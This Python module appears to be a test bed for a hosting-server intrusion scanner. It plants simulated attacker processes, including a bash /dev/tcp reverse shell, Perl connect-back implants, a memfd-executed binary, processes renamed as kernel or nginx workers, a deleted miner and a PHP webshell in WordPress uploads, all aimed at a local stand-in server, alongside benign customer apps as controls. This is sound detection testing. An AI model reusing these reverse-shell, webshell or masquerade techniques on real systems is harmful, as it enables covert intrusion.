"""What an attacker leaves on a hosting server, and what customers run on purpose: each one a
real process of an account, started in the bed.

Listeners an outsider could reach (0.0.0.0, [::]) are inert: they accept and close, and never
run anything, because they really listen on every interface of the machine. Outgoing
connections go to the attackers' servers, a root process of the bed on 127.0.0.2 that accepts
and holds them.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass, field

from .bed import INTERNET, LOCALHOST, Bed, cmdline, make_dirs, port_free, wait_for
from .packages import BedError, Unavailable
from .procfacts import read_processes

# the attackers' servers: (port, what it is)
C2_PORTS = {"reverse_shell": 4443, "irc": 6667, "pool": 3333, "memfd": 7777,
            "nginx_named": 8443, "httpd_child": 8444, "webshell": 5555}

BIND_SHELL_PORT = 31337
BIND_SHELL_V6_PORT = 31338
RENAMED_PORT = 9100
NETNS_PORT = 4444
NETNS_ACCOUNT = 17

# (name, title, account index, port, program, address)
CUSTOMER_APPS = (("node_shop", "node app on 127.0.0.1:3000", 3, 3000, "node", LOCALHOST),
                 ("python_api", "python http.server on 127.0.0.1:8000", 4, 8000, "python",
                  LOCALHOST),
                 ("node_chat", "node app on [::1]:3001", 5, 3001, "node", "::1"))

C2_SERVER = textwrap.dedent("""\
    import socket, sys, threading
    held = []
    def serve(listener):
        while True:
            conn, _ = listener.accept()
            held.append(conn)      # keep it open: the implant stays connected
            if listener.getsockname()[1] == IRC:
                conn.sendall(b":irc.test 001 bot :Welcome\\r\\n")
    listeners = []
    for port in PORTS:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((HOST, port))
        s.listen(16)
        listeners.append(s)
    for s in listeners:
        threading.Thread(target=serve, args=(s,), daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()
    """)

PERL_CONNECT = textwrap.dedent("""\
    use IO::Socket::INET;
    {rename}
    my $s = IO::Socket::INET->new(PeerAddr => "{host}", PeerPort => {port}, Proto => "tcp")
        or die "connect: $!";
    $s->autoflush(1);
    print $s "{hello}";
    while (1) {{ my $line = <$s>; sleep 1 unless defined $line; }}
    """)

PERL_INERT_LISTENER = textwrap.dedent("""\
    use IO::Socket::IP;
    {rename}
    my $l = IO::Socket::IP->new(LocalHost => "{host}", LocalPort => {port}, Listen => 5,
                                ReuseAddr => 1) or die "listen: $!";
    while (my $c = $l->accept) {{ close $c; }}    # inert: accepts and closes
    """)

PYTHON_INERT_LISTENER = textwrap.dedent("""\
    import socket
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", {port}))
    s.listen(5)
    while True:
        s.accept()[0].close()      # inert: accepts and closes
    """)

WEBSHELL = textwrap.dedent("""\
    <?php
    // a webshell as found in uploads/: starts a backdoor with no shell in between, so the
    // backdoor is the php-fpm worker's own child and inherits its descriptors
    $backdoor = {script};
    $null = ['file', '/dev/null', 'r'];
    $process = proc_open(['/usr/bin/perl', '-e', $backdoor],
                         [0 => $null, 1 => ['file', '/dev/null', 'w'],
                          2 => ['file', '/dev/null', 'w']], $pipes);
    echo $process ? "ok" : "failed";
    """)

NODE_APP = textwrap.dedent("""\
    const http = require('http');
    http.createServer((req, res) => res.end('shop of {name}\\n')).listen({port}, '{host}');
    """)


@dataclass
class Planted:
    """One attack or customer app: the processes a scan must report for it."""
    name: str
    title: str
    account: str
    pids: list = field(default_factory=list)


def perl_rename(name: str) -> str:
    """Perl's way to change its command line (what ps shows)."""
    return f'$0 = "{name}";' if name else ""


def perl_connect(port: int, hello: str = "", rename: str = "") -> str:
    return PERL_CONNECT.format(host=INTERNET, port=port, hello=hello, rename=perl_rename(rename))


def perl_listener(host: str, port: int, rename: str = "") -> str:
    return PERL_INERT_LISTENER.format(host=host, port=port, rename=perl_rename(rename))


def _pids_with_socket(bed: Bed, uid: int, test) -> list:
    facts = read_processes(bed.bed_pids())
    return sorted(fact.pid for fact in facts.values()
                  if fact.uid == uid and any(test(sock) for sock in fact.sockets))


def _connected_to(port: int):
    return lambda sock: (sock.state == "ESTABLISHED" and sock.remote_ip == INTERNET
                         and sock.remote_port == port)


def _listening_on(port: int):
    return lambda sock: sock.state == "LISTEN" and sock.local_port == port


class Planter:
    def __init__(self, bed: Bed) -> None:
        self.bed = bed
        self.attacks: list[Planted] = []
        self.customer_apps: list[Planted] = []

    def plant_all(self) -> None:
        self._check_host()
        self._c2()
        for plant in (self._reverse_shell, self._bind_shell_v4, self._bind_shell_v6,
                      self._irc_bot, self._deleted_miner, self._renamed_perl, self._memfd,
                      self._netns_listener, self._nginx_named, self._httpd_parent,
                      self._webshell_backdoor):
            plant()
        self._customer_apps()

    def _check_host(self) -> None:
        wanted = [(INTERNET, port) for port in C2_PORTS.values()] + [
            ("0.0.0.0", BIND_SHELL_PORT), ("::", BIND_SHELL_V6_PORT), (LOCALHOST, RENAMED_PORT),
            *((host, port) for _n, _t, _i, port, _k, host in CUSTOMER_APPS)]
        busy = [f"{host}:{port}" for host, port in wanted if not port_free(port, host)]
        if busy:
            raise Unavailable(f"ports busy: {busy}")
        account = self.bed.account(NETNS_ACCOUNT)
        probe = subprocess.run(["/usr/bin/setpriv", f"--reuid={account.uid}",
                                f"--regid={account.uid}", "--clear-groups", "--",
                                "/usr/bin/unshare", "-Urn", "/bin/true"], capture_output=True)
        if probe.returncode != 0:
            raise Unavailable("an account cannot make a user namespace here (unshare -Urn: "
                              f"{probe.stderr.decode(errors='replace').strip()})")

    def _await(self, planted: Planted, uid: int, test, started=None) -> Planted:
        """Wait until the process holding the socket ``test`` describes exists; record it."""
        found: list = []

        def ready() -> bool:
            found[:] = _pids_with_socket(self.bed, uid, test)
            return bool(found)
        wait_for(ready, 30, planted.name, started)
        planted.pids = list(found)
        return planted

    def _attack(self, name: str, title: str, index: int, test, argv=None, started=None,
                **spawn) -> Planted:
        account = self.bed.account(index)
        if argv is not None:
            started = self.bed.spawn(f"attack {name}", argv, user=account.name,
                                     cwd=account.home, **spawn)
        planted = self._await(Planted(name, title, account.name), account.uid, test, started)
        self.attacks.append(planted)
        return planted

    def _copy_to_home(self, index: int, source: str, relative: str) -> str:
        account = self.bed.account(index)
        target = os.path.join(account.home, relative)
        make_dirs(os.path.dirname(target), account.uid)
        shutil.copy(source, target)
        os.chown(target, account.uid, account.uid)
        os.chmod(target, 0o755)
        return target

    # ---------------------------------------------------------------- the attackers' side

    def _c2(self) -> None:
        code = (f"HOST = {INTERNET!r}\nPORTS = {sorted(C2_PORTS.values())!r}\n"
                f"IRC = {C2_PORTS['irc']}\n" + C2_SERVER)
        server = self.bed.spawn("c2 servers", [sys.executable, "-c", code])
        wait_for(lambda: "ready" in server.log_tail(), 20, "c2 servers", server)

    # ---------------------------------------------------------------- attacks

    def _reverse_shell(self) -> None:
        port = C2_PORTS["reverse_shell"]
        self._attack("reverse_shell", "reverse shell (bash -i on /dev/tcp)", 10,
                     _connected_to(port),
                     ["/bin/bash", "-c", f"exec /bin/bash -i >& /dev/tcp/{INTERNET}/{port} 0>&1"])

    def _bind_shell_v4(self) -> None:
        self._attack("bind_shell_v4", "bind shell on 0.0.0.0 (perl)", 11,
                     _listening_on(BIND_SHELL_PORT),
                     ["/usr/bin/perl", "-e", perl_listener("0.0.0.0", BIND_SHELL_PORT)])

    def _bind_shell_v6(self) -> None:
        self._attack("bind_shell_v6", "bind shell on [::] (python)", 12,
                     _listening_on(BIND_SHELL_V6_PORT),
                     ["/usr/bin/python3", "-c",
                      PYTHON_INERT_LISTENER.format(port=BIND_SHELL_V6_PORT)])

    def _irc_bot(self) -> None:
        hello = "NICK bot123\\r\\nUSER bot 0 * :bot\\r\\nJOIN #cmd\\r\\n"
        self._attack("irc_bot", "IRC bot (perl, connected)", 13, _connected_to(C2_PORTS["irc"]),
                     ["/usr/bin/perl", "-e", perl_connect(C2_PORTS["irc"], hello)])

    def _deleted_miner(self) -> None:
        index = 14
        binary = self._copy_to_home(index, "/usr/bin/perl", ".cache/.x/kswapd0")
        hello = '{\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"wallet\\"}}\\n'
        planted = self._attack("deleted_miner", "deleted miner (exe removed, connected)", index,
                               _connected_to(C2_PORTS["pool"]),
                               [binary, "-e", perl_connect(C2_PORTS["pool"], hello)])
        os.unlink(binary)        # the running copy is all that is left
        if not os.readlink(f"/proc/{planted.pids[0]}/exe").endswith(" (deleted)"):
            raise BedError("the miner's executable is not shown as deleted")

    def _renamed_perl(self) -> None:
        self._attack("renamed_perl", "perl renamed 'php-fpm: pool www', listening", 15,
                     _listening_on(RENAMED_PORT),
                     ["/usr/bin/perl", "-e",
                      perl_listener(LOCALHOST, RENAMED_PORT, "php-fpm: pool www")])

    def _memfd(self) -> None:
        # the binary only ever exists in memory: exe is "/memfd:... (deleted)"
        script = perl_connect(C2_PORTS["memfd"])
        loader = textwrap.dedent(f"""\
            import os
            fd = os.memfd_create("x", 0)
            with open("/usr/bin/perl", "rb") as handle:
                os.write(fd, handle.read())
            os.execv(f"/proc/self/fd/{{fd}}", ["[kworker/u8:2]", "-e", {script!r}])
            """)
        self._attack("memfd", "memfd-executed binary, connected", 16,
                     _connected_to(C2_PORTS["memfd"]), ["/usr/bin/python3", "-c", loader])

    def _netns_listener(self) -> None:
        self._attack("netns_listener", "listener in a user+network namespace (unshare -Urn)",
                     NETNS_ACCOUNT, _listening_on(NETNS_PORT),
                     ["/usr/bin/unshare", "-Urn", "/usr/bin/perl", "-e",
                      perl_listener("0.0.0.0", NETNS_PORT)])

    def _nginx_named(self) -> None:
        index = 18
        binary = self._copy_to_home(index, "/usr/bin/perl", ".cache/nginx")
        # its own process group, so it is the group leader a name check would look at
        self._attack("nginx_named", "customer binary ~/.cache/nginx, connected", index,
                     _connected_to(C2_PORTS["nginx_named"]),
                     [binary, "-e", perl_connect(C2_PORTS["nginx_named"],
                                                 rename="nginx: worker process")],
                     new_session=True)

    def _httpd_parent(self) -> None:
        index = 19
        account = self.bed.account(index)
        shell = self._copy_to_home(index, "/bin/dash", "httpd")
        script = os.path.join(account.home, ".cache", "update.pl")
        self.bed.write(script, perl_connect(C2_PORTS["httpd_child"]), owner=account.uid)
        # the shell waits for perl (a command follows it), so perl stays its child
        self._attack("httpd_child", "child of ~/httpd (a copy of dash), connected", index,
                     _connected_to(C2_PORTS["httpd_child"]),
                     [shell, "-c", f"/usr/bin/perl {script}; exit $?"], new_session=True)

    def _webshell_backdoor(self) -> None:
        index = 7
        account = self.bed.account(index)
        relative = "wp-content/uploads/2024/11/cache.php"
        page = WEBSHELL.format(script=php_string(perl_connect(C2_PORTS["webshell"])))
        self.bed.write(os.path.join(account.docroot, relative), page, owner=account.uid)
        answer = self.bed.get(account, "/" + relative)
        if answer.strip() != "ok":
            raise BedError(f"the webshell did not run: {answer[:200]!r}")
        planted = self._attack("webshell_backdoor", "perl backdoor started by a PHP webshell",
                               index, _connected_to(C2_PORTS["webshell"]))
        parent = read_processes(planted.pids)[planted.pids[0]].ppid
        if not cmdline(parent).startswith("php-fpm: pool "):
            raise BedError("the webshell's backdoor is not a child of a php-fpm worker")

    # ---------------------------------------------------------------- customer apps

    def _customer_apps(self) -> None:
        for name, title, index, port, kind, host in CUSTOMER_APPS:
            account = self.bed.account(index)
            if kind == "node" and os.path.exists("/usr/bin/node"):
                source = self.bed.write(os.path.join(account.home, "app", "server.js"),
                                        NODE_APP.format(name=account.name, port=port, host=host),
                                        owner=account.uid)
                argv = ["/usr/bin/node", source]
            else:
                argv = ["/usr/bin/python3", "-m", "http.server", str(port), "--bind", host]
            started = self.bed.spawn(f"app {name}", argv, user=account.name, cwd=account.home)
            planted = self._await(Planted(name, title, account.name), account.uid,
                                  _listening_on(port), started)
            self.customer_apps.append(planted)


def php_string(text: str) -> str:
    """``text`` as a single-quoted PHP literal."""
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


def settle(seconds: float) -> None:
    """Let every process get older than PT_LIMIT."""
    time.sleep(seconds)
